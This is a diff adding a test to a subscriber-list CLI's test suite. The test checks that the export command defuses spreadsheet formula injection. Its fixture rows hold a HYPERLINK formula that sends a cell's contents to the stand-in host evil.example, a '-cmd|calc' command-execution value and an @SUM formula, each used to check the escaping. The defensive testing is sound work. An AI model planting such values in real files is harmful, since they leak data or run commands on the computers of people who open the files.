@@ -84,4 +84,30 @@ describe('subscribers import, export, forget', () => {
     expect(reimport.stderr).toContain("kim@example.com was erased at the person's request; not imported");
     expect((await cli('subscribers', 'show', 'kim@example.com')).code).toBe(2);
   }, 120_000);
+
+  it('export on a store that never synced shows the list file (it syncs first), its cells that a spreadsheet would run as formulas neutralised', async () => {
+    const list = join(project.dir, 'subscribers', 'weekly-brief.csv');
+    writeFileSync(
+      list,
+      readFileSync(list, 'utf8') +
+        [
+          'eve@example.org,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",en,,subscribed,2026-01-01T00:00:00Z,form,',
+          'plus@example.org,+33 1 23 45 67 89,en,,subscribed,2026-01-01T00:00:00Z,form,',
+          'at@example.org,@SUM(1+1),en,,subscribed,2026-01-01T00:00:00Z,-cmd|calc,',
+          'tab@example.org,\tTabbed,en,,subscribed,2026-01-01T00:00:00Z,form,',
+        ].join('\n') +
+        '\n',
+    );
+    const exported = await cli('subscribers', 'export');
+    expect(exported.code, exported.stderr).toBe(0);
+    const rows = parse(exported.stdout, { columns: true }) as Record<string, string>[];
+    const byEmail = new Map(rows.map((r) => [r.email, r]));
+    // Synced before exporting: the sample list's readers are there on a store nothing else opened.
+    for (const e of CONSENTING) expect(byEmail.get(e)?.status, e).toBe('subscribed');
+    expect(byEmail.get('eve@example.org')!.name).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"click")');
+    expect(byEmail.get('plus@example.org')!.name).toBe("'+33 1 23 45 67 89");
+    expect(byEmail.get('at@example.org')).toMatchObject({ name: "'@SUM(1+1)", source: "'-cmd|calc" });
+    // No cell of the export starts with a formula character.
+    for (const r of rows) for (const [k, v] of Object.entries(r)) expect(/^[=+\-@\t\r]/.test(v), `${r.email} ${k}: ${v}`).toBe(false);
+  }, 60_000);
 });
